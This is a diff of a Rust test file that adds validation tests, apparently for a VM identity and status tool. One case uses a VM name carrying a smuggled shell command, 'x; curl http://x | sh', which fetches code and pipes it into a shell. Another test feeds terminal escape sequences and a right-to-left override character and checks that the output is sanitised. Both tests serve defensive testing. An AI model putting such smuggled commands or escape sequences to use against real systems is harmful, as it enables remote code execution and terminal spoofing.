@@ -114,6 +114,9 @@ fn each_state_of_a_node_has_its_decision() {
     // A name that differs from the platform's is wrong, with or without a credential.
     let differs = hopeless(seen(&says(Verdict::Differs)));
     add("differs, no credential", None, &differs);
+    let hostile = json!("x; curl http://x | sh");
+    let hostile = changed(Verdict::Differs, "/identity/vm/name", hostile);
+    add("differs, the VM has no valid name", None, &seen(&hostile));
     for verdict in [Verdict::Match, Verdict::Differs] {
         let case = format!("{}, labels are wanted", verdict.as_str());
         add(&case, None, &wanted(verdict));
@@ -249,4 +252,20 @@ fn a_status_counts_if_the_lock_has_no_process_id() {
     };
     publish(&root, &ended);
     assert!(!says(), "a status of an earlier process");
+}
+
+#[tokio::test]
+async fn text_of_others_cannot_control_the_terminal() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = Root::new(dir.path());
+    let present = Present {
+        path: "/x\u{1b}]0;title\u{7}\nline".to_owned(),
+        node: None,
+        copied: Some("\u{202e}".to_owned()),
+    };
+    let settings = Settings::default();
+    let answer = wait(&root, &settings, Some(&present), Duration::ZERO).await;
+    let line = answer.stderr.trim_end_matches('\n');
+    let is_plain = |character: char| !character.is_control() && character != '\u{202e}';
+    assert!(!line.is_empty() && line.chars().all(is_plain), "{line:?}");
 }
